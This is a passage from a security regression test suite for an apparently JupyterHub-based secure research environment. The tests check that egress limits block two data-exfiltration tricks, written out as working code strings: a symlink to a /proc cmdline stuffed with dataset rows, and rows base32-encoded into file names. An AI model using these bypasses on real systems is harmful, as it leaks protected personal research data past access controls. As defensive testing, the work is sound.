    received = _browser(ana, kernels[:1], STREAM_ROWS, seconds, reconnect_every=0.5)
    assert _rows_received(received) < allowed
    ana.api("POST", f"/user/ana/api/kernels/{kernels[0]}/interrupt")
    time.sleep(airlock.output_window_seconds + 2)
    received = _browser(ana, kernels[1:], STREAM_ROWS, seconds)
    assert _rows_received(received) < allowed


PROC_LINK = """
import json, os, resource, subprocess, sys
from pathlib import Path
rows = s.dataset("linked/journeys").to_csv()
big = (rows * (1 + 5_000_000 // len(rows)))[:5_000_000]
def more_stack():
    resource.setrlimit(resource.RLIMIT_STACK, (64 * 1024 * 1024, resource.RLIM_INFINITY))
holder = subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(600)",
     *[big[i:i + 120_000] for i in range(0, len(big), 120_000)]],
    preexec_fn=more_stack,
)
(Path.home() / "leak.py").symlink_to(f"/proc/{holder.pid}/cmdline")
print(json.dumps({"pid": holder.pid, "size": os.path.getsize(Path.home() / "leak.py")}))
"""
ROWS_AS_NAMES = """
import base64, json
from pathlib import Path
rows = s.dataset("linked/journeys").to_csv().encode()
folder = Path.home() / "names"
folder.mkdir(exist_ok=True)
encoded = base64.b32encode(rows * 8).decode()
for number, start in enumerate(range(0, len(encoded), 240)):
    (folder / f"{number:05d}{encoded[start:start + 240]}").touch()
print(json.dumps({"bytes": len(encoded)}))
"""


def test_what_the_contents_api_serves_is_what_it_counts(hub: RunningHub) -> None:
    """A symlink named leak.py to /proc/<pid>/cmdline of a process started with 5 MB of rows
    as arguments: stat says 0 bytes, so the size limit and the hour's budget let 5 MB through,
    as often as asked. And rows written as file names: listings were never counted (70
    listings of 0.9 MB each went through). Now every answer counts what it serves. And the
    hour's budget lived in the server's memory, renewed by a restart of the server."""
    ana = server_for(hub, "ana", "P001")
    kernel = ana.start_kernel()
    assert ana.run(kernel, "import srs, os; s = srs.session()").error is None
    airlock = hub.policies.access.airlock
    made = ana.run(kernel, PROC_LINK).json()
    assert made["size"] == 0
    reply = ana.api("GET", "/user/ana/api/contents/leak.py?content=1&type=file&format=text")
    assert reply.status_code == 403 and "person_key" not in reply.text, reply.status_code
    ana.run(kernel, f"os.kill({made['pid']}, 9)")

    written = ana.run(kernel, ROWS_AS_NAMES, timeout=300).json()["bytes"]
    one = ana.api("GET", "/user/ana/api/contents/names")
    assert one.status_code == 200 and len(one.content) > written
    statuses = []
    for _ in range(airlock.read_bytes_per_hour // len(one.content) + 3):
        statuses.append(ana.api("GET", "/user/ana/api/contents/names").status_code)
        if statuses[-1] != 200:
            break
    assert statuses[-1] == 429, (statuses, hub.log_tail(4000))
    # The hour's reads outlive the server: a restart (hers to ask the hub for, in seconds)
    # once started a new budget, 60 MB a restart; now the account's ledger, root's, goes on.
    ana = server_for(hub, "ana", "P001")
    assert ana.api("GET", "/user/ana/api/contents/names").status_code == 429
    ledger = hub.runtime_base / "read-ledgers" / unix_account_of("ana")
    assert ledger.stat().st_uid == 0 and ledger.stat().st_mode & 0o077 == 0
    # The first listing and every one answered 200: within the hour's budget.
    assert len(one.content) * len(statuses) <= airlock.read_bytes_per_hour + len(one.content)
